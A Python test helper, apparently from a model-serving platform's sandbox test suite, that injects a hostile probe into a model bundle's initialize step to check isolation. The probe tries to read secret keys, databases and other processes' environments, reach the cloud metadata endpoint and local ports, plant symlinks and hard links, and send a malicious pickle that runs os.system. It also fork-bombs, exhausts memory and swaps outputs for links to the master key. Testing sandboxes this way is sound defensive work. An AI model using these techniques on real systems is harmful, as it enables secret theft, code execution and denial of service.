"""A hostile bundle for sandbox tests: its code attacks the server the way a bundle author could, and reports.

The probe runs in the bundle's `initialize` (on a model host's load and at the start of a train job). It
writes `probe.json` into its working folder (the one folder it may write) with the outcome of each
attempt, and, by its `mode.txt`, goes further:

- `report`: only the attempts, plus, as a model host, replies naming outputs it replaced by links;
- `pickle`: writes a crafted pickle on the host's socket, which runs `touch <marker>` if unpickled;
- `oversized` / `malformed`: a frame over the cap / a frame that is not JSON;
- `detach`: leaves a detached process behind (`sleep <tag>` in a new session);
- `forkbomb` / `memory`: as many processes / as much memory as it can get.
"""

from __future__ import annotations

import json
import shutil
from pathlib import Path

PROBE = r"""
import errno, json, os, socket, struct, subprocess, sys, time
from pathlib import Path

bundle = Path(BUNDLE_ROOT)
cfg = json.loads((bundle / "probe-config.json").read_text())
mode = cfg["mode"]
work = Path.cwd()
report = {"uid": os.getuid(), "cwd": str(work), "mode": mode}
report["env"] = sorted(k for k in os.environ if k.startswith("MEDCLOUD") or any(
    w in k for w in ("SECRET", "AWS", "AZURE", "PASSWORD", "TOKEN", "DATABASE")))

def attempt(name, action):
    try:
        value = action()
        report[name] = "ok:" + (value[:64] if isinstance(value, str) else repr(value)[:64])
    except Exception as exc:
        report[name] = f"{type(exc).__name__}:{getattr(exc, 'errno', '')}"

def connect(host, port):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.settimeout(3)
    try:
        s.connect((host, port))
        return "connected"
    finally:
        s.close()

data = Path(cfg["data_dir"])
attempt("secret_key", lambda: (data / "secret.key").read_text())
attempt("database", lambda: (data / "medcloud.db").read_bytes()[:16].decode(errors="replace"))
attempt("list_data", lambda: ",".join(os.listdir(data)))
attempt("list_cache", lambda: ",".join(os.listdir(data / "cache")))
attempt("other_experiment", lambda: Path(cfg["victim_file"]).read_text())
attempt("ticket", lambda: (work.parent / "ticket.json").read_text())
attempt("host_log", lambda: (work.parent / "host.log").read_text())
attempt("parent_environ", lambda: Path(f"/proc/{os.getppid()}/environ").read_bytes().decode(errors="replace"))
attempt("server_environ", lambda: Path(f"/proc/{cfg['server_pid']}/environ").read_bytes().decode(errors="replace"))
attempt("link_secret", lambda: os.link(data / "secret.key", work / "stolen.key"))
attempt("write_bundle", lambda: (bundle / "planted.py").write_text("x = 1"))
attempt("tcp_api", lambda: connect("127.0.0.1", cfg["api_port"]))
attempt("tcp_postgres", lambda: connect("127.0.0.1", cfg["postgres_port"]))
attempt("tcp_metadata", lambda: connect("169.254.169.254", 80))
for name, port in cfg.get("extra_tcp", {}).items():  # e.g. Ray's GCS and dashboard (Jobs API)
    attempt(f"tcp_{name}", lambda: connect("127.0.0.1", port))
attempt("list_shared", lambda: ",".join(os.listdir(cfg["shared_dir"])) if cfg.get("shared_dir") else "no shared folder")
# Links where the server touched names in our folder (the old layout) and where it reads what we write.
for name in ("host.log", "host-spec.json", "requests", "weights", "logs.txt", "progress.json"):
    target = data / f"planted-{name}"
    attempt(f"plant_{name}", lambda: os.symlink(target, work / name))

if mode == "detach":
    pid = os.fork()
    if pid == 0:
        os.setsid()
        if os.fork() == 0:
            os.execvp("sleep", ["sleep", cfg["detach_tag"]])
        os._exit(0)
    os.waitpid(pid, 0)
    report["detached"] = "spawned"
if mode == "forkbomb":
    children, failure = [], ""
    for _ in range(cfg.get("forks", 400)):
        try:
            children.append(subprocess.Popen(["sleep", "60"]))
        except OSError as exc:
            failure = f"{type(exc).__name__}:{exc.errno}"
            break
    report["forks"] = len(children)
    report["fork_failure"] = failure
    for child in children:
        child.kill()
        child.wait()  # reaped: a zombie still counts against the uid's process limit
if mode == "memory":
    try:
        hog = bytearray(cfg["hog_bytes"])
        report["memory"] = f"ok:{len(hog)}"
    except MemoryError:
        report["memory"] = "MemoryError"

(work / "probe.json").write_text(json.dumps(report))

if "--fd" in sys.argv:  # a model host: the socket to the server
    fd = int(sys.argv[sys.argv.index("--fd") + 1])
    sock = socket.socket(fileno=os.dup(fd))
    if mode == "pickle":
        class Evil:
            def __reduce__(self):
                return (os.system, (f"touch {cfg['marker']}",))
        import pickle
        from multiprocessing.connection import Connection
        Connection(os.dup(fd)).send(Evil())  # the old protocol's framing, a pickle inside
        time.sleep(30)
    if mode == "oversized":
        sock.sendall(struct.pack(">I", 64 << 20) + b"{" * 65536)
        time.sleep(30)
    if mode == "malformed":
        body = b"\x80\x04not json at all"
        sock.sendall(struct.pack(">I", len(body)) + body)
        time.sleep(30)
    if mode == "report":
        host_module = sys.modules["__main__"]  # medcloud.inference.host, run as a script
        real_handle = host_module.handle

        def handle(predictor, msg):
            reply = real_handle(predictor, msg)
            if msg.get("op") == "infer" and reply.get("ok") and reply.get("files"):
                out = Path(msg["out_dir"])
                first = out / reply["files"][0]
                first.unlink()
                os.symlink(data / "secret.key", first)  # a link to the master key, as an output
                os.symlink(data, out / "swapped")  # a folder swapped for a link on the way to an output
                reply["files"] = reply["files"] + ["swapped/secret.key"]
            return reply

        host_module.handle = handle
"""


def make_probe_bundle(source: Path, out: Path, config: dict) -> Path:
    """A copy of a working bundle whose `initialize` (run on load and on training) runs the probe."""
    folder = out / f"probe_bundle_{config['mode']}"
    shutil.copytree(source, folder)
    (folder / "scripts").mkdir(exist_ok=True)
    (folder / "scripts" / "probe.py").write_text(PROBE)
    (folder / "probe-config.json").write_text(json.dumps(config))
    step = "$exec(open(@bundle_root + '/scripts/probe.py').read(), {'BUNDLE_ROOT': @bundle_root})"
    for name in ("inference.json", "train.json"):
        path = folder / "configs" / name
        config_json = json.loads(path.read_text())
        initialize = config_json.get("initialize") or []
        config_json["initialize"] = [step, *(initialize if isinstance(initialize, list) else [initialize])]
        path.write_text(json.dumps(config_json, indent=1))
    return folder
